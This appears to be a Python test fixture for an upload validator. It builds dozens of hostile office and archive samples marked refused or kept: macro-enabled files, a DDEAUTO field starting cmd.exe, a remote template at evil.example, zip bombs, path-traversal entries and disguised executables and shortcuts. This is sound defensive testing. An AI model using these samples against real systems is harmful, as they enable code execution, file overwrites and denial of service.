"""Office files and other packed files: programs, bombs, lies, and what reaches out."""

import gzip
import io
import struct
import tarfile
import zlib

from tests.core.uploads import CONTENT_TYPES_XML, lie_about_size, odt, office, packed, set_flag
from tests.library.hostile import Hostile, kept, refused

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
ZEROS = b"\x00" * 12_000_000
BOMB = office(extra={"word/zeros.xml": ZEROS})
PROGRAM = b"MZ\x90\x00" + b"\x00" * 400
RELATION = (
    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
    b'2006/relationships/%s" Target="%s" TargetMode="External"/></Relationships>'
)
TEMPLATE = RELATION % (b"attachedTemplate", b"https://evil.example/t.dotm")


def odt_with(name: str, content: bytes) -> bytes:
    parts = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office/>"}
    return packed(parts | {name: content})


def quine_like() -> bytes:
    """A zip in a zip in a zip, each holding ten of the next."""
    inner = packed({"zeros": ZEROS})
    for _level in range(3):
        inner = packed({f"{number}.zip": inner for number in range(10)})
    return inner


def tarred() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        archive.addfile(tarfile.TarInfo("../../evil"), io.BytesIO())
    return out.getvalue()


def wrong_count(content: bytes) -> bytes:
    """The end record tells of fewer parts than there are."""
    at = content.rindex(b"PK\x05\x06")
    return content[: at + 8] + struct.pack("<2H", 1, 1) + content[at + 12 :]


def longer_than_told() -> bytes:
    """The directory tells the truth; the local header of the part does not name it."""
    content = office(extra={"word/a.xml": b"a" * 900})
    return content.replace(b"word/a.xml", b"word/b.exe", 1)


def shortcut() -> bytes:
    return struct.pack("<I", 0x4C) + bytes.fromhex("0114020000000000c000000000000046") + b"\0" * 60


PACKED: dict[str, Hostile] = {
    "docm": refused("notes.docm", office(extra={"word/vbaProject.bin": OLE})),
    "docm called .docx": refused("notes.docx", office(extra={"word/vbaProject.bin": OLE})),
    "macros under another name": refused("notes.docx", office(extra={"word/vbaData2.BIN": OLE})),
    "xlsm": refused("table.xlsm", office("xlsx")),
    "sheet of macros": refused(
        "table.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": b"<s>=EXEC(calc)</s>"})
    ),
    "macros by content type": refused(
        "notes.docx",
        packed(
            {
                "[Content_Types].xml": CONTENT_TYPES_XML + b"ms-word.document.macroEnabled.main",
                "word/document.xml": b"<d/>",
            }
        ),
    ),
    "odt with macros": refused("notes.odt", odt_with("Basic/Standard/Module1.xml", b"<m/>")),
    "odt with scripts": refused("notes.odt", odt_with("Scripts/python/evil.py", b"import os")),
    "control of an old kind": refused(
        "notes.docx", office(extra={"word/activeX/activeX1.xml": b"<ax/>"})
    ),
    "template from elsewhere": refused(
        "notes.docx", office(extra={"word/_rels/settings.xml.rels": TEMPLATE})
    ),
    "template from elsewhere, other quotes": refused(
        "notes.docx",
        office(extra={"word/_rels/settings.xml.rels": TEMPLATE.replace(b'"', b"'")}),
    ),
    "object from elsewhere": refused(
        "notes.docx",
        office(extra={"word/_rels/document.xml.rels": RELATION % (b"oleObject", b"mhtml:http:x")}),
    ),
    "link to a page": kept(
        "notes.docx",
        office(extra={"word/_rels/document.xml.rels": RELATION % (b"hyperlink", b"https://a.b")}),
    ),
    "program inside a text": refused(
        "notes.docx", office(extra={"word/embeddings/oleObject1.bin": OLE + PROGRAM})
    ),
    "field that starts a program": refused(
        "notes.docx",
        packed(
            {
                "[Content_Types].xml": CONTENT_TYPES_XML,
                "word/document.xml": b"<w:instrText>DDEAUTO c:\\\\cmd.exe /k calc</w:instrText>",
            }
        ),
    ),
    "sheet that starts a program": refused(
        "table.xlsx",
        office("xlsx", {"xl/externalLinks/externalLink1.xml": b'<ddeLink ddeService="cmd"/>'}),
    ),
    "sheet that names another sheet": kept(
        "table.xlsx",
        office("xlsx", {"xl/externalLinks/externalLink1.xml": b"<externalBook r:id='r'/>"}),
    ),
    "entities that grow": kept(
        "notes.docx",
        office(extra={"word/styles.xml": b"<!DOCTYPE l [<!ENTITY a 'aa'><!ENTITY b '&a;&a;'>]>"}),
    ),
    "locked office file": refused("notes.docx", OLE),
    "locked zip": refused("notes.docx", set_flag(office(), 0x01)),
    "flat bomb": refused("notes.docx", BOMB),
    "bomb that lies about its size": refused(
        "notes.docx", lie_about_size(BOMB, "word/zeros.xml", 500)
    ),
    "zip that claims 4 GB": refused(
        "notes.docx",
        lie_about_size(office(extra={"word/a.xml": b"a"}), "word/a.xml", 4_000_000_000),
    ),
    "zip in a zip in a zip": refused("notes.docx", office(extra={"word/a.zip": quine_like()})),
    "zip in a zip without its name": refused("notes.docx", office(extra={"word/a.png": office()})),
    "packed packs by themselves": refused("many.zip", quine_like()),
    "packed packs called .docx": refused("many.docx", quine_like()),
    "ten thousand parts": refused(
        "notes.docx", office(extra={f"word/{number}.xml": b"" for number in range(10_000)})
    ),
    "end record that lies": refused("notes.docx", wrong_count(office())),
    "two names of one part": refused("notes.docx", longer_than_told()),
    "path upwards": refused("notes.docx", office(extra={"../../../etc/cron.d/evil": b"x"})),
    "path of Windows": refused("notes.docx", office(extra={"C:/Windows/evil.dll": b"x"})),
    "page of the web behind a docx": refused("notes.docx", office() + b"<script>alert(1)</script>"),
    "page of the web before a docx": refused("notes.docx", b"<script>alert(1)</script>" + office()),
    "docx of nothing": refused("notes.docx", packed({"[Content_Types].xml": b""})),
    "odt that is none": refused(
        "notes.odt", packed({"mimetype": b"text/html", "content.xml": b""})
    ),
    "docx that is an odt": refused("notes.docx", odt()),
    "tar": refused("all.tar", tarred()),
    "tar called .docx": refused("all.docx", tarred()),
    "gz": refused("notes.docx.gz", gzip.compress(office())),
    "7z": refused("all.7z", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 60),
    "7z called .xlsx": refused("all.xlsx", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 60),
    "rar": refused("all.rar", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 60),
    "java": refused("notes.jar", packed({"META-INF/MANIFEST.MF": b"Main-Class: Evil"})),
    "program called .docx": refused("setup.docx", PROGRAM),
    "shortcut": refused("Notes.lnk", shortcut()),
    "shortcut called .pdf": refused("Notes.pdf", shortcut()),
    "shortcut to a page": refused("Notes.url", b"[InternetShortcut]\r\nURL=file:///evil.exe\r\n"),
    "installer": refused("setup.msi", OLE),
    "rtf with an object": refused("notes.rtf", rb"{\rtf1{\object\objocx{\*\objdata 0105}}}"),
    "rtf called .docx": refused("notes.docx", rb"{\rtf1{\object\objocx{\*\objdata 0105}}}"),
    "deflate of nothing": refused("notes.docx", zlib.compress(b"PK\x03\x04")),
}
